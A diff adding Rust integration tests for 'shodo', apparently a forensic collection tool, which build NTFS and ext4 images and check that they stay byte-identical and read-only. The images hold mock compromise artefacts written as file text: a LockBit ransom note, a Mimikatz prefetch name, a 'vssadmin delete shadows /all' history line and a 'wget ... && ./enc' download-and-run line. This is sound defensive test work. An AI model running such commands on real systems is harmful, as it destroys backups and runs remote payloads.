@@ -1,0 +1,220 @@
+//! Real filesystem images: an NTFS image made with `mkntfs` and filled through ntfs-3g, an ext4
+//! image made with `mkfs.ext4 -d`. Collected as image files and as read-only loop devices; the
+//! images must be byte-identical afterwards.
+
+use std::collections::BTreeMap;
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+use serde_json::Value;
+use sha2::{Digest, Sha256};
+
+use crate::helpers::{shodo, verify};
+
+fn sh(program: &str, args: &[&str]) -> String {
+    let out = Command::new(program)
+        .args(args)
+        .output()
+        .unwrap_or_else(|e| panic!("{program}: {e} (see .ci/run for the packages)"));
+    assert!(out.status.success(), "{program} {args:?}: {}", String::from_utf8_lossy(&out.stderr));
+    String::from_utf8_lossy(&out.stdout).into_owned()
+}
+
+fn sha_file(path: &Path) -> String {
+    format!("{:x}", Sha256::digest(fs::read(path).unwrap()))
+}
+
+/// A Windows-like tree on a fresh NTFS image.
+fn ntfs_image(dir: &Path) -> PathBuf {
+    let img = dir.join("windows.img");
+    fs::File::create(&img).unwrap().set_len(64 << 20).unwrap();
+    sh("mkntfs", &["-F", "-Q", "-q", "-L", "WIN", img.to_str().unwrap()]);
+    let mnt = dir.join("mnt");
+    fs::create_dir_all(&mnt).unwrap();
+    sh("ntfs-3g", &[img.to_str().unwrap(), mnt.to_str().unwrap()]);
+    let files = [
+        ("Windows/System32/config/SYSTEM", "regf system hive"),
+        ("Windows/System32/config/SOFTWARE", "regf software hive"),
+        ("Windows/System32/winevt/Logs/Security.evtx", "ElfFile security"),
+        ("Windows/Prefetch/MIMIKATZ.EXE-12345678.pf", "MAM prefetch"),
+        ("Users/yamada/NTUSER.DAT", "regf user hive"),
+        ("Users/yamada/Desktop/README_LOCKBIT.txt", "All your files are stolen and encrypted"),
+        (
+            "Users/yamada/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt",
+            "vssadmin delete shadows /all",
+        ),
+        ("ProgramData/AnyDesk/ad_svc.trace", "Incoming session request from 198.51.100.20"),
+    ];
+    for (rel, content) in files {
+        let p = mnt.join(rel);
+        fs::create_dir_all(p.parent().unwrap()).unwrap();
+        fs::write(p, content).unwrap();
+    }
+    sh("umount", &[mnt.to_str().unwrap()]);
+    img
+}
+
+fn rows(case: &Path, endpoint: &str) -> BTreeMap<String, Value> {
+    let text = fs::read_to_string(case.join("endpoints").join(endpoint).join("manifest.jsonl")).unwrap();
+    text.lines()
+        .map(|l| serde_json::from_str::<Value>(l).unwrap())
+        .map(|r| (r["path"].as_str().unwrap().to_string(), r))
+        .collect()
+}
+
+fn new_case(dir: &Path) -> PathBuf {
+    let case = dir.join("case");
+    shodo().args(["case", "init", "--case"]).arg(&case).assert().success();
+    case
+}
+
+fn loops_of(img: &Path) -> String {
+    sh("losetup", &["-j", img.to_str().unwrap()])
+}
+
+fn entry(case: &Path, endpoint: &str, row: &Value) -> Vec<u8> {
+    use std::io::Read;
+    let zip = case.join("endpoints").join(endpoint).join(row["zip"].as_str().unwrap());
+    let mut a = zip::ZipArchive::new(fs::File::open(zip).unwrap()).unwrap();
+    let mut e = a.by_name(row["entry"].as_str().unwrap()).unwrap();
+    let mut out = Vec::new();
+    e.read_to_end(&mut out).unwrap();
+    out
+}
+
+#[test]
+fn ntfs_image_is_collected_with_raw_mft_and_left_byte_identical() {
+    let tmp = tempfile::tempdir().unwrap();
+    let img = ntfs_image(tmp.path());
+    let before = sha_file(&img);
+    let case = new_case(tmp.path());
+    let out = shodo()
+        .args(["collect", "--json", "--endpoint", "pc-01", "--case"])
+        .arg(&case)
+        .arg("--source")
+        .arg(&img)
+        .output()
+        .unwrap();
+    assert!(out.status.code() == Some(0), "{}", String::from_utf8_lossy(&out.stderr));
+    assert_eq!(sha_file(&img), before, "the image changed");
+    assert_eq!(loops_of(&img).trim(), "", "the loop device was not detached");
+    let rows = rows(&case, "pc-01");
+    for rel in [
+        "Windows/System32/config/SYSTEM",
+        "Windows/System32/winevt/Logs/Security.evtx",
+        "Windows/Prefetch/MIMIKATZ.EXE-12345678.pf",
+        "Users/yamada/NTUSER.DAT",
+        "Users/yamada/Desktop/README_LOCKBIT.txt",
+        "ProgramData/AnyDesk/ad_svc.trace",
+    ] {
+        assert_eq!(rows.get(rel).map(|r| r["status"].clone()), Some("collected".into()), "{rel}");
+    }
+    let mft = &rows["$MFT"];
+    assert_eq!(mft["status"], "collected");
+    let bytes = entry(&case, "pc-01", mft);
+    assert_eq!(&bytes[..4], b"FILE", "$MFT extracted raw starts with a FILE record");
+    assert_eq!(mft["sha256"], format!("{:x}", Sha256::digest(&bytes)));
+    assert_eq!(rows["$Boot"]["status"], "collected");
+    assert_eq!(rows["$Extend/$UsnJrnl:$J"]["reason"], "absent", "a fresh volume has no USN journal");
+    let custody = fs::read_to_string(case.join("custody.jsonl")).unwrap();
+    let start: Value = custody
+        .lines()
+        .map(|l| serde_json::from_str::<Value>(l).unwrap())
+        .find(|e| e["action"] == "collect.start")
+        .unwrap();
+    assert_eq!(start["detail"]["opened"]["fs"], "ntfs");
+    assert_eq!(start["detail"]["opened"]["mount_options"], "ro,noatime");
+    assert_eq!(verify(&case).0, 0);
+}
+
+#[test]
+fn device_gets_the_read_only_flag_before_it_is_read() {
+    let tmp = tempfile::tempdir().unwrap();
+    let img = ntfs_image(tmp.path());
+    let before = sha_file(&img);
+    let dev = sh("losetup", &["--find", "--show", img.to_str().unwrap()]).trim().to_string();
+    struct Detach(String);
+    impl Drop for Detach {
+        fn drop(&mut self) {
+            let _ = Command::new("losetup").args(["-d", &self.0]).status();
+        }
+    }
+    let _guard = Detach(dev.clone());
+    sh("blockdev", &["--setrw", &dev]);
+    assert_eq!(sh("blockdev", &["--getro", &dev]).trim(), "0");
+    let case = new_case(tmp.path());
+    let out = shodo()
+        .args(["collect", "--endpoint", "pc-02", "--case"])
+        .arg(&case)
+        .args(["--source", &dev])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
+    assert_eq!(sh("blockdev", &["--getro", &dev]).trim(), "1", "shodo leaves the evidence device read-only");
+    assert_eq!(rows(&case, "pc-02")["$MFT"]["status"], "collected");
+    sh("blockdev", &["--setrw", &dev]);
+    drop(_guard);
+    assert_eq!(sha_file(&img), before);
+}
+
+#[test]
+fn ext4_image_is_collected_without_journal_replay() {
+    let tmp = tempfile::tempdir().unwrap();
+    let tree = tmp.path().join("tree");
+    for (rel, content) in [
+        ("etc/hostname", "mail-01\n"),
+        ("etc/passwd", "root:x:0:0::/root:/bin/sh\n"),
+        ("var/log/auth.log", "Failed password for root from 192.0.2.99\n"),
+        ("root/.bash_history", "wget http://192.0.2.99/enc && ./enc\n"),
+    ] {
+        let p = tree.join(rel);
+        fs::create_dir_all(p.parent().unwrap()).unwrap();
+        fs::write(p, content).unwrap();
+    }
+    let img = tmp.path().join("linux.img");
+    fs::File::create(&img).unwrap().set_len(32 << 20).unwrap();
+    sh("mkfs.ext4", &["-F", "-q", "-d", tree.to_str().unwrap(), img.to_str().unwrap()]);
+    let before = sha_file(&img);
+    let case = new_case(tmp.path());
+    let out = shodo().args(["collect", "--case"]).arg(&case).arg("--source").arg(&img).output().unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
+    assert_eq!(sha_file(&img), before, "the image changed");
+    let rows = rows(&case, "mail-01");
+    assert_eq!(
+        rows["root/.bash_history"]["sha256"],
+        format!("{:x}", Sha256::digest(b"wget http://192.0.2.99/enc && ./enc\n"))
+    );
+    assert_eq!(rows["var/log/auth.log"]["status"], "collected");
+    assert_eq!(verify(&case).0, 0);
+}
+
+#[test]
+fn sources_lists_an_attached_image_with_its_filesystem() {
+    let tmp = tempfile::tempdir().unwrap();
+    let img = ntfs_image(tmp.path());
+    let dev = sh("losetup", &["--find", "--show", "--read-only", img.to_str().unwrap()]).trim().to_string();
+    let out = shodo().args(["sources", "--json"]).output().unwrap();
+    let _ = Command::new("losetup").args(["-d", &dev]).status();
+    let disks: Value = serde_json::from_slice(&out.stdout).unwrap();
+    let disk = disks
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|d| d["path"] == dev.as_str())
+        .unwrap_or_else(|| panic!("{dev} not listed: {disks}"));
+    assert_eq!(disk["fs"], "ntfs");
+    assert_eq!(disk["read_only"], true);
+    assert_eq!(disk["backing_file"], img.to_str().unwrap());
+}
+
+#[test]
+fn collecting_from_a_directory_says_the_raw_metadata_was_not_preserved() {
+    let tmp = tempfile::tempdir().unwrap();
+    let src = tmp.path().join("c");
+    fs::create_dir_all(src.join("Windows/System32/config")).unwrap();
+    fs::write(src.join("Windows/System32/config/SYSTEM"), "regf").unwrap();
+    let case = new_case(tmp.path());
+    shodo().args(["collect", "--endpoint", "pc-03", "--case"]).arg(&case).arg("--source").arg(&src).assert().code(0);
+    assert_eq!(rows(&case, "pc-03")["$MFT"]["reason"], "raw_unavailable");
+}
